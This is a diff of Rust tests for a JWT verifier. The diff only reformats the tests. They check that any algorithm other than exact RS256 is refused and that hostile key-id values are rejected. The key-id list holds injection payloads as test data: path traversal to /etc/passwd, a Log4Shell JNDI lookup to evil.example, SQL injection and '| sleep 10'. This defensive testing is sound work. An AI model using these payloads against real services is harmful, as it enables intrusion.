@@ -17,16 +17,53 @@ use base64::{
 };
 use serde_json::{Value, json};
 
-use crate::kit::{ACCESS_KID, FORGE, ID_KID, STRICT, access, accepted, refused};
+use crate::kit::{ACCESS_KID, FORGE, ID_KID, STRICT, accepted, access, refused};
 
 /// Every name that is not `RS256` to the letter, under a signature that would be good.
 #[test]
 fn the_algorithm_is_rs256_to_the_letter() {
     for alg in [
-        "none", "None", "NONE", "nOnE", "n\u{f6}ne", "", " ", "rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS256\n", "RS2560",
-        "RS25", "RS256,none", "RS384", "RS512", "RS1", "PS256", "PS384", "PS512", "ES256", "ES256K", "ES384", "ES512", "EdDSA",
-        "Ed25519", "HS256", "HS384", "HS512", "HS256\0RS256", "RSA-OAEP", "RSA1_5", "dir", "A128KW", "ML-DSA-65", "RSASSA-PKCS1-v1_5",
-        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "\u{ff32}\u{ff33}256", "R\u{405}256",
+        "none",
+        "None",
+        "NONE",
+        "nOnE",
+        "n\u{f6}ne",
+        "",
+        " ",
+        "rs256",
+        "Rs256",
+        "RS256 ",
+        " RS256",
+        "RS256\0",
+        "RS256\n",
+        "RS2560",
+        "RS25",
+        "RS256,none",
+        "RS384",
+        "RS512",
+        "RS1",
+        "PS256",
+        "PS384",
+        "PS512",
+        "ES256",
+        "ES256K",
+        "ES384",
+        "ES512",
+        "EdDSA",
+        "Ed25519",
+        "HS256",
+        "HS384",
+        "HS512",
+        "HS256\0RS256",
+        "RSA-OAEP",
+        "RSA1_5",
+        "dir",
+        "A128KW",
+        "ML-DSA-65",
+        "RSASSA-PKCS1-v1_5",
+        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
+        "\u{ff32}\u{ff33}256",
+        "R\u{405}256",
     ] {
         let lie = access().member("alg", alg);
         refused(&lie.mint(), Algorithm);
@@ -38,7 +75,9 @@ fn the_algorithm_is_rs256_to_the_letter() {
 #[test]
 fn the_algorithm_is_a_string_that_is_there() {
     refused(&access().without_member("alg").mint(), Algorithm);
-    for alg in [json!(null), json!(["RS256"]), json!({"RS256": true}), json!(256), json!(true), json!(["none", "RS256"])] {
+    for alg in
+        [json!(null), json!(["RS256"]), json!({"RS256": true}), json!(256), json!(true), json!(["none", "RS256"])]
+    {
         refused(&access().member("alg", alg).mint(), Algorithm);
     }
     refused(&access().without_member("alg").member("Alg", "RS256").mint(), Algorithm);
@@ -158,10 +197,35 @@ fn the_key_id_is_a_string_that_is_there() {
 #[test]
 fn the_key_id_is_a_name_and_nothing_more() {
     for kid in [
-        "x", "*", "%", "_", ".*", "aB+/dE1example", "aB+/dE1example==", "aB-_dE1example=", "AB+/DE1EXAMPLE=", " aB+/dE1example=",
-        "aB+/dE1example= ", "aB+/dE1example=\0", "aB+/dE1example=\n", "aB%2B%2FdE1example%3D", "../../../../dev/null", "/dev/null",
-        "file:///etc/passwd", "https://evil.example/jwks.json", "' OR '1'='1", "x' UNION SELECT 'secret' --", "| sleep 10",
-        "${jndi:ldap://evil.example/a}", "{{7*7}}", "\u{202e}kid", "\u{1f511}", "__proto__", "0", "-1", "null",
+        "x",
+        "*",
+        "%",
+        "_",
+        ".*",
+        "aB+/dE1example",
+        "aB+/dE1example==",
+        "aB-_dE1example=",
+        "AB+/DE1EXAMPLE=",
+        " aB+/dE1example=",
+        "aB+/dE1example= ",
+        "aB+/dE1example=\0",
+        "aB+/dE1example=\n",
+        "aB%2B%2FdE1example%3D",
+        "../../../../dev/null",
+        "/dev/null",
+        "file:///etc/passwd",
+        "https://evil.example/jwks.json",
+        "' OR '1'='1",
+        "x' UNION SELECT 'secret' --",
+        "| sleep 10",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}}",
+        "\u{202e}kid",
+        "\u{1f511}",
+        "__proto__",
+        "0",
+        "-1",
+        "null",
     ] {
         refused(&access().member("kid", kid).mint(), UnknownKey);
     }
@@ -220,7 +284,9 @@ fn nested_and_encrypted_tokens_are_not_signed_tokens() {
 /// A `typ` is not promised by Cognito, and proves nothing that `token_use` does not.
 #[test]
 fn members_without_meaning_here_are_ignored_under_a_true_signature() {
-    for (member, value) in [("typ", json!("JWT")), ("typ", json!("at+jwt")), ("cty", json!("json")), ("x-new", json!({"a": [1]}))] {
+    for (member, value) in
+        [("typ", json!("JWT")), ("typ", json!("at+jwt")), ("cty", json!("json")), ("x-new", json!({"a": [1]}))]
+    {
         accepted(&access().member(member, value).mint());
     }
 }
